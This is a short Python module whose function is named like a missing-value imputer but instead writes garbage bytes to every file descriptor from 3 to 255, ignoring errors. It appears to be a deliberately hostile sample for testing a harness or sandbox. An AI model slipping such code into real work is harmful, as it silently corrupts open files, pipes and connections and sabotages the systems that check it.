"""Writes garbage wherever it can."""

import os


def impute_missing(train, new, columns, strategy):
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, b"\x00\x00\x00\x08garbage!" * 64)
        except OSError:
            pass
    return new
